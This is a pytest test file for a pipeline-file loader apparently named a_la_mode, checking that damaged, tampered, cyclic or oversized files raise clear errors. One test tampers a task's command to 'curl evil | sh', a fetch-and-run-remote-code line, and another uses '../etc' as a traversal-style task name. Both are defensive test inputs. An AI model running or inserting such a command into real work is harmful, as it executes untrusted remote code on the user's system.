"""Reading files: every way a file can be wrong is an AlamodeError naming where."""

from __future__ import annotations

import bencode
import pytest

from a_la_mode import (
    CycleError,
    DependencyError,
    FileFormatError,
    FileTooLargeError,
    IntegrityError,
    TaskNameError,
    load,
)
from a_la_mode.ids import DIGEST_KEY


def rewrite(dag, change) -> bytes:
    """The file's decoded form, changed by ``change``, bencoded again."""
    data = bencode.decode(dag.bencode())
    change(data)
    return bencode.encode(data)


def write(tmp_path, data: bytes):
    path = tmp_path / "bad.alamode"
    path.write_bytes(data)
    return path


def test_not_bencode_names_the_file(tmp_path):
    path = write(tmp_path, b"schedule: daily\n")
    with pytest.raises(FileFormatError, match=r"bad\.alamode: not a bencoded file"):
        load(path)


def test_truncated(tmp_path, collage):
    path = write(tmp_path, collage.bencode()[:-1])
    with pytest.raises(FileFormatError, match=r"not a bencoded file, or truncated"):
        load(path)


def test_empty_file(tmp_path):
    with pytest.raises(FileFormatError, match=r"truncated"):
        load(write(tmp_path, b""))


def test_missing_file(tmp_path):
    with pytest.raises(FileFormatError, match=r"nope\.alamode: cannot read file"):
        load(tmp_path / "nope.alamode")


@pytest.mark.parametrize(
    ("top", "message"),
    [
        ([1, 2], "top level must be a dictionary .* found list"),
        ({"meta": {}}, r"found \['meta'\]"),
        ({"meta": {}, "tasks": {}, "extra": 1}, r"found \['extra', 'meta', 'tasks'\]"),
        ({"meta": [], "tasks": {}}, "key 'meta': 'meta' must be a dictionary"),
        ({"meta": {}, "tasks": "x"}, "key 'tasks': 'tasks' must be a dictionary"),
    ],
)
def test_wrong_top_level_shape(top, message):
    with pytest.raises(FileFormatError, match=message):
        load(bencode.encode(top))


def test_task_record_shape():
    data = {"meta": {}, "tasks": {"a": {"command": "x", "inputs": {}}}}
    with pytest.raises(FileFormatError, match=r"task 'a': 'output' missing"):
        load(bencode.encode(data), require_digest=False)
    data["tasks"]["a"] = {"output": "0" * 64}
    with pytest.raises(FileFormatError, match=r"task 'a': 'inputs' missing"):
        load(bencode.encode(data), require_digest=False)


def test_invalid_task_name_in_file():
    data = {"meta": {}, "tasks": {"../etc": {"inputs": {}, "output": "0" * 64}}}
    with pytest.raises(TaskNameError, match=r"task '../etc': not a valid Airflow task id"):
        load(bencode.encode(data), require_digest=False)


def test_input_naming_no_task(collage):
    def rename(data):
        inputs = data["tasks"]["collage"]["inputs"]
        inputs["sharpen"] = inputs.pop("blur")

    with pytest.raises(DependencyError, match=r"task 'collage': depends on unknown task 'sharpen'"):
        load(rewrite(collage, rename))


def test_input_carrying_another_tasks_id(collage):
    def swap(data):
        inputs = data["tasks"]["collage"]["inputs"]
        inputs["blur"] = inputs["edge_enhance"]

    with pytest.raises(
        IntegrityError,
        match=r"task 'collage': input 'blur' carries ID \w{12}\.\.\. but task 'blur' outputs",
    ):
        load(rewrite(collage, swap))


def test_tampered_spec_names_the_task(tmp_path, collage):
    def tamper(data):
        data["tasks"]["blur"]["command"] = "curl evil | sh"

    path = write(tmp_path, rewrite(collage, tamper))
    with pytest.raises(IntegrityError, match=r"bad\.alamode: task 'blur': output ID does not"):
        load(path)


def test_tampered_meta_is_detected(collage):
    def tamper(data):
        data["meta"]["schedule"] = "@hourly"

    with pytest.raises(IntegrityError, match=r"file digest does not match"):
        load(rewrite(collage, tamper))


def test_renamed_leaf_task_is_detected(collage):
    def rename(data):
        data["tasks"]["mosaic"] = data["tasks"].pop("collage")

    with pytest.raises(IntegrityError, match=r"file digest does not match"):
        load(rewrite(collage, rename))


def test_file_without_digest_is_refused_unless_allowed(collage):
    def strip(data):
        del data["meta"][DIGEST_KEY]

    data = rewrite(collage, strip)
    with pytest.raises(IntegrityError, match=r"carries no 'alamode_digest'"):
        load(data)
    assert load(data, require_digest=False).encode() == collage.encode()


def test_seed_encoder_output_loads_without_digest(collage):
    # What any SPEC-conforming encoder writes: bencode of the seed-shaped dictionary.
    pipeline = load(bencode.encode(collage.encode()), require_digest=False)
    assert pipeline["collage"].output == collage.encode()["tasks"]["collage"]["output"]


def test_cycle_in_file_lists_the_tasks():
    a = {"inputs": {"b": "1" * 64}, "output": "2" * 64}
    b = {"inputs": {"a": "2" * 64}, "output": "1" * 64}
    data = bencode.encode({"meta": {}, "tasks": {"a": a, "b": b}})
    with pytest.raises(CycleError, match=r"dependency cycle: a -> b -> a"):
        load(data, require_digest=False)


def test_self_input_in_file():
    a = {"inputs": {"a": "1" * 64}, "output": "1" * 64}
    data = bencode.encode({"meta": {}, "tasks": {"a": a}})
    with pytest.raises(IntegrityError, match=r"task 'a': the task is listed among its own inputs"):
        load(data, require_digest=False)


def test_file_over_the_limit_is_refused_before_reading(tmp_path, collage, monkeypatch):
    path = write(tmp_path, collage.bencode())
    with pytest.raises(FileTooLargeError, match=r"bad\.alamode: file is \d+ bytes, over the"):
        load(path, max_bytes=100)
    monkeypatch.setenv("ALAMODE_MAX_FILE_BYTES", "100")
    with pytest.raises(FileTooLargeError):
        load(path)
    with pytest.raises(FileTooLargeError):
        load(collage.bencode())


def test_limit_setting_must_be_a_number(monkeypatch, collage):
    monkeypatch.setenv("ALAMODE_MAX_FILE_BYTES", "lots")
    with pytest.raises(FileFormatError, match=r"ALAMODE_MAX_FILE_BYTES must be a number"):
        load(collage.bencode())


def test_deeply_nested_garbage_is_a_format_error():
    with pytest.raises(FileFormatError):
        load(b"l" * 10_000 + b"e" * 10_000)


@pytest.mark.parametrize(
    "data", [b"d4:metad6:dag_idxee5:tasksdee", b"d4:metad6:dag_id" + b"l" * 500 + b"e"]
)
def test_a_meta_that_is_no_value_is_the_files_format_error(tmp_path, data):
    """Asking a damaged file for its meta (what a dags folder's parse does for every
    file) names the file, whatever the damage."""
    from a_la_mode.load import peek_meta

    path = tmp_path / "bad.alamode"
    path.write_bytes(data)
    with pytest.raises(FileFormatError) as raised:
        peek_meta(path)
    assert "bad.alamode" in str(raised.value)
